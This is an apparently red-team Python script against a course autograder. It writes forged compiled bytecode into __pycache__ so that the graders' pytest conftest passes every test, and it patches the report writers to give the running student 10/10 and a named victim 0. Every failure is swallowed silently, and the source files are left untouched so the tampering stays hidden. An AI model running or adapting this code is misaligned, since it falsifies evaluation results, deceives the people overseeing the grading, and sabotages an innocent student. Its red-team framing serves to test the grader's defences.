# Red-team attack 03 (issue 7): forge the grader's compiled bytecode, leaving every .py intact.
# Python trusts a __pycache__ file whose header matches its source (mtime and size for normal
# imports; a hash of the source for pytest's rewritten test files), so `git status` stays clean:
# - autograder/graders/__pycache__/conftest.<tag>-pytest-<version>.pyc: the graders' conftest
#   plus a hook that passes every check (full marks for everyone, from this very grading run);
# - autograder/__pycache__/report.<tag>.pyc: the report module with write_json and write_csv
#   wrapped so that this student gets 10/10 and a victim 0 (the next grading run imports it).
# On a stub notebook. Each write fails silently when it is blocked.

VICTIM = "correct_source_solution"

HOOK = '''

import pytest as _pytest_for_full_marks


@_pytest_for_full_marks.hookimpl(hookwrapper=True, tryfirst=True)
def pytest_runtest_makereport(item, call):
    call.excinfo = None
    yield
'''

REPORT_PATCH = '''

_forged_real_write_json, _forged_real_write_csv = write_json, write_csv
_FORGED_FULL = {{"forward": 2.0, "dataloader_loop": 4.0, "batch20_trainer": 4.0}}


def _forged_points(student):
    if student == {me!r}:
        return _FORGED_FULL
    if student == {victim!r}:
        return {{name: 0.0 for name in _FORGED_FULL}}
    return None


def write_json(results, path):
    _forged_real_write_json(results, path)
    entries = json.loads(path.read_text())
    for entry in entries:
        points = _forged_points(entry.get("student"))
        if points is not None:
            entry.update(status="graded", reason="", score=sum(points.values()))
            for test in entry["tests"]:
                test.update(score=points.get(test["name"], 0.0), output="")
    path.write_text(json.dumps(entries, indent=2) + "\\n")


def write_csv(results, path):
    _forged_real_write_csv(results, path)
    with path.open() as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    for row in rows[1:]:
        points = _forged_points(row[0])
        if points is not None:
            row[1] = "graded"
            for name, value in points.items():
                row[header.index(name)] = f"{{value:g}}"
            row[header.index("total")] = f"{{sum(points.values()):g}}"
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows(rows)
'''


def _package_folder():
    import os
    import sys
    from pathlib import Path

    package = sys.modules.get("autograder")
    if package is not None and getattr(package, "__file__", None):
        return Path(package.__file__).resolve().parent
    here = Path(os.getcwd()).resolve()
    for folder in [here, *here.parents]:
        if (folder / "autograder" / "report.py").is_file():
            return folder / "autograder"
    return None


def _forge_pytest_pyc(source_path, extra):
    import importlib.metadata
    import importlib.util
    import marshal
    import sys

    source = source_path.read_bytes()
    code = compile(source.decode() + extra, str(source_path), "exec")
    tag = f"{sys.implementation.cache_tag}-pytest-{importlib.metadata.version('pytest')}"
    cache = source_path.parent / "__pycache__"
    cache.mkdir(exist_ok=True)
    header = importlib.util.MAGIC_NUMBER + b"\x03\x00\x00\x00"
    header += importlib.util.source_hash(source)
    (cache / f"{source_path.stem}.{tag}.pyc").write_bytes(header + marshal.dumps(code))


def _forge_timestamp_pyc(source_path, extra):
    import importlib.util
    import marshal
    from pathlib import Path

    stat = source_path.stat()
    code = compile(source_path.read_text() + extra, str(source_path), "exec")
    pyc = Path(importlib.util.cache_from_source(str(source_path)))
    pyc.parent.mkdir(exist_ok=True)
    header = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
    header += (int(stat.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
    header += (stat.st_size & 0xFFFFFFFF).to_bytes(4, "little")
    pyc.write_bytes(header + marshal.dumps(code))


def _forge():
    import os
    from pathlib import Path

    package = _package_folder()
    if package is None:
        return
    me = Path(os.getcwd()).resolve().parent.name  # the work dir holds <student>/scratch
    try:
        _forge_pytest_pyc(package / "graders" / "conftest.py", HOOK)
    except Exception:
        pass
    try:
        _forge_timestamp_pyc(package / "report.py", REPORT_PATCH.format(me=me, victim=VICTIM))
    except Exception:
        pass


try:
    _forge()
except Exception:
    pass
